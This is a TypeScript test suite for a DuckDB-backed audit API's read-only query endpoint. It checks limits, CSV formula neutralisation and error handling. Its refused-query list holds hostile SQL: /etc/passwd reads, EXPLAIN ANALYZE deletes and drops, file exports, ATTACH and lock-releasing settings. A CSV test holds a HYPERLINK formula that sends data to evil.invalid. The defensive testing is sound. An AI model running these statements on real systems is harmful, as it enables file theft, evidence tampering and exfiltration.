/**
 * POST /v1/query: one read-only SELECT, no file system, no
 * settings, no path leaks; time, row and byte limits; analyst queries cannot starve
 * the other endpoints; json/csv/arrow with CSV cells neutralised; malformed requests
 * get 4xx problems and the server keeps serving.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tableFromIPC } from 'apache-arrow';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import type { Store } from '../../engine/db.ts';
import { appendFlagEvents } from '../../engine/flag-events.ts';
import { analystConcurrency, defaultAnalystConcurrency } from '../../api/query-exec.ts';
import { auth, getJson, insertFlags, seedAgencies, startServer, T, tempStore } from './helpers.ts';

let store: Store;
let app: FastifyInstance;
let url: string;
let dir: string;
let cleanup: () => Promise<void>;

const post = (path: string, body: unknown, token = T.analyst, headers: Record<string, string> = {}) =>
  getJson(`${url}${path}`, token, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });

beforeAll(async () => {
  ({ store, dir, cleanup } = await tempStore());
  await seedAgencies(store);
  const sys = `'b', '1', now()`;
  await store.run(`INSERT INTO treasury.budget_indicators (indicator_id, fiscal_year, region_code, agency_code, func_code, econ_code, fund_source,
      project_code, amount, approved_date, kind, base_indicator_id, _batch_id, _row_hash, _ingested_at) VALUES
    ('I1', 2025, '370811', 'A0101', '20502', '30201', 'general', NULL, 1000000.00, DATE '2025-01-20', 'initial', NULL, ${sys}),
    ('I2', 2025, '370811', 'A0102', '20502', '30201', 'general', NULL, 500000.00, DATE '2025-01-20', 'initial', NULL, ${sys}),
    ('I3', 2025, '370811', 'A0101', '21201', '31001', 'gov_fund', NULL, 300000.10, DATE '2025-02-01', 'initial', NULL, ${sys})`);
  await store.run(`INSERT INTO treasury.payments (payment_id, fiscal_year, region_code, agency_code, indicator_id, func_code, econ_code, fund_source,
      project_code, payee_name, payee_account, payee_type, amount, pay_date, pay_method, purpose, direct_fund, _batch_id, _row_hash, _ingested_at) VALUES
    ('P1', 2025, '370811', 'A0101', 'I1', '20502', '30201', 'general', NULL, '某公司', '6222', 'org', 100000.01, DATE '2025-01-25', 'direct', '办公用品', false, ${sys}),
    ('P2', 2025, '370811', 'A0101', 'I1', '20502', '30201', 'general', NULL, '某公司', '6222', 'org', 200000.02, DATE '2025-03-10', 'direct', '办公用品', false, ${sys}),
    ('P3', 2025, '370811', 'A0102', 'I2', '20502', '30201', 'general', NULL, '某公司', '6223', 'org', 50000.00, DATE '2025-06-15', 'direct', '设备', false, ${sys}),
    ('P4', 2025, '370811', 'A0101', 'I3', '21201', '31001', 'gov_fund', NULL, '某建筑', '6224', 'org', 100000.00, DATE '2025-04-01', 'direct', '工程', false, ${sys})`);
  await store.run(`INSERT INTO debt.positions (region_code, fiscal_year, debt_limit, debt_balance, fiscal_capacity, interest_paid, general_expenditure, new_debt,
      _batch_id, _row_hash, _ingested_at) VALUES ('370811', 2025, 1000.00, 1100.00, 900.00, 50.00, 400.00, 100.00, ${sys})`);
  writeFileSync(join(dir, 'secret.csv'), 'a\n1\n');
  await insertFlags(store, [{ flag_id: 'F1' }, { flag_id: 'F2', agency_code: 'A0102' }, { flag_id: 'F3', agency_code: 'B0201' }]);
  await store.transaction(async () => {
    await appendFlagEvents(store, [
      { flag_id: 'F1', event_type: 'flag.confirmed', from_status: 'discovered', to_status: 'confirmed', actor: 'sup', role: 'supervisor' },
      { flag_id: 'F1', event_type: 'flag.assigned', from_status: 'confirmed', to_status: 'assigned', actor: 'sup', role: 'supervisor', note: '请说明' },
    ]);
  });
  await store.run("UPDATE fiscus.flags SET status = 'assigned' WHERE flag_id = 'F1'");
  await store.run('CREATE SEQUENCE main.probe_seq');
  ({ app, url } = await startServer(store, { queryTimeoutMs: 1500, queryMaxRows: 1000 }));
});

/** What an attacker would change: rows and hashes of the evidence, the tables, a sequence. */
async function snapshot() {
  return {
    flags: await store.all('SELECT flag_id, status FROM fiscus.flags ORDER BY flag_id'),
    events: await store.all('SELECT seq, flag_id, event_type, note, hash FROM fiscus.flag_events ORDER BY seq'),
    payments: await store.all('SELECT count(*) AS n, sum(amount) AS total FROM treasury.payments'),
    tables: await store.all("SELECT schema_name, table_name FROM duckdb_tables() WHERE database_name = current_database() ORDER BY ALL"),
    macros: await store.all("SELECT count(*) AS n FROM duckdb_functions() WHERE NOT internal AND function_type = 'macro'"),
    seq: await store.all("SELECT last_value FROM duckdb_sequences() WHERE sequence_name = 'probe_seq'"),
  };
}
afterAll(async () => {
  await app.close();
  await cleanup();
});

describe('POST /v1/query refuses what is not a plain read (issue 10 attacks)', () => {
  const OUT = () => join(dir, 'x.csv');
  const refused = [
    // An analyst token wrote anything through EXPLAIN ANALYZE (it executes its statement).
    'EXPLAIN ANALYZE DELETE FROM fiscus.flag_events WHERE seq = 2',
    "EXPLAIN ANALYZE UPDATE fiscus.flag_events SET note = '已整改' WHERE seq = 3",
    "EXPLAIN ANALYZE UPDATE fiscus.flags SET status = 'verified'",
    'EXPLAIN ANALYZE DROP TABLE treasury.payments CASCADE',
    'EXPLAIN SELECT 1',
    "UPDATE fiscus.flags SET status = 'verified'",
    'CREATE TABLE t AS SELECT 1',
    'CREATE MACRO pwn(x) AS x',
    'DROP TABLE treasury.payments CASCADE',
    "INSERT INTO fiscus.flags (flag_id) VALUES ('x')",
    'DELETE FROM fiscus.flag_events',
    // Files: read, list, write.
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('SECRET')",
    "SELECT * FROM read_blob('SECRET')",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'SECRET'",
    "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM system.main.\"READ_TEXT\"('/etc/passwd')",
    'EXPLAIN ANALYZE COPY fiscus.flags TO \'OUT\'',
    "COPY fiscus.flags TO 'OUT'",
    "EXPORT DATABASE 'OUT'",
    "ATTACH '/tmp/other.duckdb' AS o",
    // Settings and the server's paths.
    'SET enable_external_access = true',
    'SET lock_configuration = false',
    'RESET lock_configuration',
    'PRAGMA database_list',
    'PRAGMA enable_profiling',
    'SELECT * FROM duckdb_databases()',
    'SELECT path FROM pragma_database_list()',
    'SELECT * FROM duckdb_settings()',
    "SELECT current_setting('allowed_directories') AS d",
    "SELECT current_setting('enable_external_access') AS d",
    'CALL pragma_version()',
    'CHECKPOINT',
    // SELECT-typed side doors.
    "SELECT * FROM query('DELETE FROM fiscus.flag_events')",
    "SELECT * FROM query_table('fiscus.flags')",
    "SELECT nextval('main.probe_seq')",
    'SELECT * FROM checkpoint()',
    'SELECT sleep_ms(60000)',
    'SELECT 1; DROP TABLE fiscus.flags',
    'INSTALL httpfs',
    'LOAD httpfs',
  ];
  let before: Awaited<ReturnType<typeof snapshot>>;
  beforeAll(async () => {
    before = await snapshot();
    expect(before.events.length).toBe(5);
  });
  for (const sql of refused) {
    it(`refuses: ${sql}`, async () => {
      for (const format of ['json', 'csv', 'arrow']) {
        const r = await post('/v1/query', { sql: sql.replace('SECRET', join(dir, 'secret.csv')).replace('OUT', OUT()), format });
        expect(r.status).toBeGreaterThanOrEqual(400);
        expect(r.status).toBeLessThan(500);
        expect(r.type).toContain('application/problem+json');
        expect(r.body.status).toBe(r.status);
        expect(r.body.code).toBe('SQL_REJECTED');
        expect(typeof r.body.detail).toBe('string');
        // Never the server's paths (unless the analyst typed one).
        if (!sql.includes('SECRET')) expect(JSON.stringify(r.body)).not.toContain(dir);
      }
    });
  }

  it('says why: one read-only SELECT, and what the statement was', async () => {
    const r = await post('/v1/query', { sql: 'EXPLAIN ANALYZE DELETE FROM fiscus.flag_events WHERE seq = 2' });
    expect(r.body.detail).toMatch(/^只允许单条只读 SELECT 查询 \/ only a single read-only SELECT is allowed: this is an EXPLAIN statement/);
    const a = await post('/v1/query', { sql: "ATTACH '/tmp/other.duckdb' AS o" });
    expect(a.body.detail).toContain('this is an ATTACH statement');
    const f = await post('/v1/query', { sql: "SELECT * FROM read_text('/etc/passwd')" });
    expect(f.body.detail).toContain('the table function read_text() reads files');
  });

  it('nothing changed: flags, events and their hashes, tables, macros, sequences, files', async () => {
    expect(await snapshot()).toEqual(before);
    expect(existsSync(OUT())).toBe(false);
    // The lockdown still holds (read by the test, not the analyst).
    expect(await store.all("SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked")).toEqual([
      { ext: false, locked: true },
    ]);
  });

  it('plain reads of the same tables still work', async () => {
    const r = await post('/v1/query', { sql: 'SELECT count(*) AS n FROM fiscus.flag_events' });
    expect(r.body.rows).toEqual([{ n: '5' }]);
    const d = await post('/v1/query', { sql: 'DESCRIBE fiscus.flags' });
    expect(d.status).toBe(200);
  });
});

describe('POST /v1/query results', () => {
  it('json: money and bigint as strings, params bound, columns typed', async () => {
    const r = await post('/v1/query', {
      sql: 'SELECT payment_id, amount, count(*) OVER () AS n, pay_date, direct_fund FROM treasury.payments WHERE agency_code = $a AND amount > $min ORDER BY payment_id',
      params: { a: 'A0101', min: 100000 },
    });
    expect(r.status).toBe(200);
    expect(r.body.rows).toEqual([
      { payment_id: 'P1', amount: '100000.01', n: '2', pay_date: '2025-01-25', direct_fund: false },
      { payment_id: 'P2', amount: '200000.02', n: '2', pay_date: '2025-03-10', direct_fund: false },
    ]);
    expect(r.body.columns.map((c: any) => c.type)).toEqual(['VARCHAR', 'DECIMAL(18,2)', 'BIGINT', 'DATE', 'BOOLEAN']);
    expect(r.body.truncated).toBe(false);
  });

  it('row limit: the result is cut and says so', async () => {
    const r = await post('/v1/query', { sql: 'SELECT range AS i FROM range(5000)' });
    expect(r.status).toBe(200);
    expect(r.body.row_count).toBe(1000);
    expect(r.body.rows.length).toBe(1000);
    expect(r.body.truncated).toBe(true);
    const small = await post('/v1/query', { sql: 'SELECT range AS i FROM range(5000)', max_rows: 10 });
    expect(small.body.rows.length).toBe(10);
    expect(small.body.truncated).toBe(true);
  });

  it('time limit: a long query is cancelled with a 422 problem and the server keeps serving', async () => {
    const r = await post('/v1/query', { sql: 'SELECT count(*) FROM range(100000000000) a' });
    expect(r.status).toBe(422);
    expect(r.body.code).toBe('QUERY_TIMEOUT');
    expect(r.type).toContain('application/problem+json');
    expect((await post('/v1/query', { sql: 'SELECT 42 AS x' })).body.rows).toEqual([{ x: 42 }]);
  });

  it('csv', async () => {
    const res = await fetch(`${url}/v1/query`, {
      method: 'POST',
      headers: { ...auth(T.analyst), 'content-type': 'application/json' },
      body: JSON.stringify({ sql: "SELECT payment_id, amount, purpose || ',x' AS p FROM treasury.payments ORDER BY 1 LIMIT 2", format: 'csv' }),
    });
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(await res.text()).toBe('payment_id,amount,p\nP1,100000.01,"办公用品,x"\nP2,200000.02,"办公用品,x"\n');
  });

  it('csv cells that would start a spreadsheet formula get a leading quote; numbers stay', async () => {
    const res = await fetch(`${url}/v1/query`, {
      method: 'POST',
      headers: { ...auth(T.analyst), 'content-type': 'application/json' },
      body: JSON.stringify({
        sql: `SELECT '=HYPERLINK("http://evil.invalid/?"||A1,"点击")' AS "=h", '=1+1' AS f, '+1' AS plus, '@SUM(A1)' AS at, chr(9) || 'x' AS tab,
                     '-' AS dash, '-12.50' AS neg_text, -12.50::DECIMAL(10,2) AS neg, '1e-3' AS sci, '＝1+1' AS wide, 'a=b' AS mid`,
        format: 'csv',
      }),
    });
    expect(res.status).toBe(200);
    const [head, row] = (await res.text()).split('\n');
    expect(head).toBe("'=h,f,plus,at,tab,dash,neg_text,neg,sci,wide,mid");
    expect(row).toBe(`"'=HYPERLINK(""http://evil.invalid/?""||A1,""点击"")",'=1+1,+1,'@SUM(A1),'\tx,'-,-12.50,-12.50,1e-3,'＝1+1,a=b`);
  });

  it('arrow IPC stream: VARCHAR, DECIMAL (as string), INTEGER, BIGINT, DOUBLE, DATE, BOOLEAN, nulls', async () => {
    const res = await fetch(`${url}/v1/query`, {
      method: 'POST',
      headers: { ...auth(T.analyst), 'content-type': 'application/json' },
      body: JSON.stringify({
        sql: `SELECT payment_id, amount, fiscal_year, (row_number() OVER (ORDER BY payment_id))::BIGINT AS rn, amount::DOUBLE AS d,
                     pay_date, direct_fund, CASE WHEN payment_id = 'P2' THEN NULL ELSE 7 END AS maybe
              FROM treasury.payments ORDER BY payment_id`,
        format: 'arrow',
      }),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.apache.arrow.stream');
    const table = tableFromIPC(new Uint8Array(await res.arrayBuffer()));
    expect(table.numRows).toBe(4);
    const rows = table.toArray().map((r) => r.toJSON());
    expect(rows[0]!.payment_id).toBe('P1');
    expect(rows[0]!.amount).toBe('100000.01');
    expect(rows[0]!.fiscal_year).toBe(2025);
    expect(rows[1]!.rn).toBe(2n);
    expect(rows[1]!.d).toBeCloseTo(200000.02);
    expect(new Date(rows[0]!.pay_date as number).toISOString().slice(0, 10)).toBe('2025-01-25');
    expect(rows[0]!.direct_fund).toBe(false);
    expect(rows[1]!.maybe).toBeNull();
    expect(rows[2]!.maybe).toBe(7);
  });

  it('SQL errors in the analyst\'s query are 400 problems with the reason', async () => {
    const r = await post('/v1/query', { sql: 'SELECT no_such_column FROM treasury.payments' });
    expect(r.status).toBe(400);
    expect(r.body.detail).toMatch(/no_such_column/);
  });
});

describe('analyst queries are bounded: bytes, concurrency, and they cannot starve the rest', () => {
  let big: FastifyInstance;
  let bigUrl: string;
  let busy: FastifyInstance;
  let busyUrl: string;
  const MAX_BYTES = 1024 * 1024;
  const BUSY_TIMEOUT_MS = 5000;
  const postTo = (base: string, body: unknown) =>
    getJson(`${base}/v1/query`, T.analyst, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const postBig = (body: unknown) => postTo(bigUrl, body);
  const postBusy = (body: unknown) => postTo(busyUrl, body);
  beforeAll(async () => {
    ({ app: big, url: bigUrl } = await startServer(store, { queryTimeoutMs: 60_000, queryMaxBytes: MAX_BYTES, rateLimitPerMinute: false }));
    ({ app: busy, url: busyUrl } = await startServer(store, { queryTimeoutMs: BUSY_TIMEOUT_MS, rateLimitPerMinute: false }));
  });
  afterAll(async () => {
    await big.close();
    await busy.close();
  });

  it('a result over the byte cap is a 422 QUERY_TOO_LARGE naming the cap, in every format', async () => {
    for (const format of ['json', 'csv', 'arrow']) {
      const r = await postBig({ sql: "SELECT i, repeat('x', 1000) AS pad FROM range(5000) t(i)", format, max_rows: 5000 });
      expect(r.status, JSON.stringify(r.body)).toBe(422);
      expect(r.type).toContain('application/problem+json');
      expect(r.body.code).toBe('QUERY_TOO_LARGE');
      expect(r.body.max_bytes).toBe(MAX_BYTES);
      expect(r.body.detail).toContain(`${MAX_BYTES} bytes`);
      expect(r.body.rows_before_cap).toBeLessThan(1100);
    }
    // Under the cap the same query answers.
    const ok = await postBig({ sql: "SELECT i, repeat('x', 100) AS pad FROM range(5000) t(i)", max_rows: 5000 });
    expect(ok.status).toBe(200);
    expect(ok.body.rows.length).toBe(5000);
  });

  it('single huge values (2 rows × 100 MB, 1 × 200 MB, a 150 MB list) are refused without decoding them; memory stays bounded', async () => {
    const rss0 = process.memoryUsage().rss;
    const heap0 = process.memoryUsage().heapUsed;
    let peakHeap = heap0;
    const sampler = setInterval(() => (peakHeap = Math.max(peakHeap, process.memoryUsage().heapUsed)), 10);
    try {
      for (const sql of ["SELECT repeat('x', 100000000) AS s FROM range(2)", "SELECT repeat('x', 200000000) AS s", "SELECT [repeat('y', 150000000)] AS l"]) {
        for (const format of ['json', 'arrow']) {
          const r = await postBig({ sql, format });
          expect(r.status, JSON.stringify(r.body)).toBe(422);
          expect(r.body.code).toBe('QUERY_TOO_LARGE');
          expect(r.body.rows_before_cap).toBe(0);
        }
      }
    } finally {
      clearInterval(sampler);
    }
    // Decoding even one of those values would add 100–200 MB to the JS heap.
    expect(peakHeap - heap0).toBeLessThan(64 * 1024 * 1024);
    // DuckDB's chunks are given back (a collection follows large results): six queries of
    // 150–200 MB each did not pile up.
    await new Promise((r) => setTimeout(r, 700));
    expect(process.memoryUsage().rss - rss0).toBeLessThan(700 * 1024 * 1024);
    expect((await postBig({ sql: 'SELECT 42 AS x' })).body.rows).toEqual([{ x: 42 }]);
  });

  it('the analyst pool: one core left to the API by default, always below the libuv thread pool', () => {
    expect([1, 2, 3, 8].map((cores) => defaultAnalystConcurrency(cores))).toEqual([1, 1, 2, 4]);
    // UV_THREADPOOL_SIZE 16 (fiscus serve), read pool 4: what was asked for.
    expect(analystConcurrency(4, 4, 16)).toBe(4);
    // libuv's default 4 threads, all wanted by the read pool: still one analyst query, never more.
    expect(analystConcurrency(4, 4, 4)).toBe(1);
    expect(analystConcurrency(20, 4, 16)).toBe(11);
  });

  it('the maximum number of worst-case queries run; one more is a 429; GET /v1/flags still answers, correctly, before they time out', async () => {
    const max = analystConcurrency(undefined, 4);
    const started = Date.now();
    const heavy = Array.from({ length: max }, () =>
      postBusy({ sql: 'SELECT count(*) FROM range(1e12::BIGINT)' }).then((r) => ({ ...r, at: Date.now() - started })),
    );
    // Wait until every slot is taken: only then does one more get 429.
    let extra: Awaited<ReturnType<typeof postBusy>> | undefined;
    for (let i = 0; i < 100; i++) {
      extra = await postBusy({ sql: 'SELECT 1' });
      if (extra.status === 429) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    expect(extra!.status).toBe(429);
    expect(extra!.type).toContain('application/problem+json');
    expect(extra!.body).toMatchObject({ code: 'QUERY_BUSY', max_concurrent: max });

    // A URL nobody asked before, so the answer comes from the database, not the response cache.
    const flags = await getJson(`${busyUrl}/v1/flags?limit=50&severity=high`, T.analyst);
    const flagsAt = Date.now() - started;
    expect(flags.status).toBe(200);
    expect(flags.body.items.map((f: any) => f.flag_id).sort()).toEqual(['F1', 'F2', 'F3']);
    const ready = await getJson(`${busyUrl}/readyz`, undefined);
    expect(ready.status).toBe(200);

    const done = await Promise.all(heavy);
    for (const h of done) expect(h.body.code).toBe('QUERY_TIMEOUT');
    expect(flagsAt).toBeLessThan(Math.min(...done.map((h) => h.at)));
    // The slots come back.
    expect((await postBusy({ sql: 'SELECT 7 AS x' })).body.rows).toEqual([{ x: 7 }]);
  });
});

describe('malformed requests get 4xx problems and the server keeps serving', () => {
  it('bad JSON, wrong types, unknown fields, huge body, wrong content type', async () => {
    const cases: [string | object, Record<string, string>, number][] = [
      ['{"sql": ', {}, 400],
      [{ sql: 42 }, {}, 400],
      [{ sql: 'SELECT 1', format: 'xml' }, {}, 400],
      [{ sql: 'SELECT 1', params: { a: { nested: true } } }, {}, 400],
      [{ sql: 'SELECT 1', surprise: 1 }, {}, 400],
      [{}, {}, 400],
      [JSON.stringify({ sql: `SELECT '${'x'.repeat(2_000_000)}'` }), {}, 413],
      ['sql=SELECT 1', { 'content-type': 'application/x-www-form-urlencoded' }, 415],
    ];
    for (const [body, headers, status] of cases) {
      const r = await post('/v1/query', body, T.analyst, headers);
      expect(r.status, JSON.stringify(r.body)).toBe(status);
      expect(r.type).toContain('application/problem+json');
      expect(r.body.status).toBe(status);
    }
    const bad = await getJson(`${url}/v1/flags?limit=abc&fiscal_year=x`, T.analyst);
    expect(bad.status).toBe(400);
    expect(bad.type).toContain('application/problem+json');
    expect((await post('/v1/query', { sql: 'SELECT 1 AS ok' })).body.rows).toEqual([{ ok: 1 }]);
  });
});

// The saved queries, on both engines: test/api/saved-queries.test.ts.

describe('evidence lookup', () => {
  it('splits composite keys on | and leaves unknown keys as null rows', async () => {
    await insertFlags(store, [{ flag_id: 'DEBT-1', agency_code: null, evidence: [
      { table: 'debt.positions', key: '370811|2025' },
      { table: 'debt.positions', key: '370811|2024' },
      { table: 'treasury.payments', key: 'P4' },
    ] }]);
    const d = await getJson(`${url}/v1/flags/DEBT-1`, T.analyst);
    expect(d.status).toBe(200);
    expect(d.body.evidence_rows[0].row).toMatchObject({ region_code: '370811', fiscal_year: 2025, debt_balance: '1100.00' });
    expect(d.body.evidence_rows[1].row).toBeNull();
    expect(d.body.evidence_rows[2].row).toMatchObject({ payment_id: 'P4', amount: '100000.00' });
  });
});
